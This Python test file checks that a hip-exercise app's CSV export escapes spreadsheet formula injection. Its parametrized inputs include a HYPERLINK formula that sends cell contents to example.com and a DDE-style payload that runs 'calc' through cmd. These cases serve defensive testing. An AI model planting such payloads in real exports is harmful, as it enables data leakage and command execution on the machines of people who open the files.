"""Sessions written for spreadsheets: text that would run as a formula stays text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from hipcoach.application.exports import write_csv
from hipcoach.core.records import Session, Status

STARTED = datetime(2026, 5, 11, 6, 0, tzinfo=UTC)


def session(routine: str, name: str, notes: str | None) -> Session:
    return Session(
        id=7,
        routine_id=routine,
        routine_name=name,
        routine_path=f"/r/{routine}.toml",
        started_at=STARTED,
        ended_at=None,
        updated_at=STARTED,
        status=Status.STOPPED,
        active_seconds=61.0,
        paused_seconds=0.0,
        work_done=1,
        work_total=3,
        pain_before=None,
        pain_after=2,
        effort=None,
        notes=notes,
    )


def cells(sessions: list[Session]) -> list[dict[str, str]]:
    out = io.StringIO()
    write_csv(sessions, out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.com/?"&A1, "click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tpadded",
        "\rreturned",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text: str) -> None:
    (row,) = cells([session(text, text, text)])
    assert row["routine"] == row["name"] == row["notes"] == "'" + text


def test_other_cells_are_written_as_they_are() -> None:
    (row,) = cells([session("hip-flow", "Hip flow", "felt 10/10 = great; -ish")])
    assert (row["routine"], row["name"], row["notes"]) == (
        "hip-flow",
        "Hip flow",
        "felt 10/10 = great; -ish",
    )
    assert (row["active_seconds"], row["pain_after"], row["effort"]) == ("61", "2", "")


def test_a_carriage_return_inside_a_note_keeps_its_row_whole() -> None:
    rows = cells([session("a", "A", "first\rsecond\r\nthird"), session("b", "B", None)])
    assert [(r["routine"], r["notes"]) for r in rows] == [
        ("a", "first\rsecond\r\nthird"),
        ("b", ""),
    ]
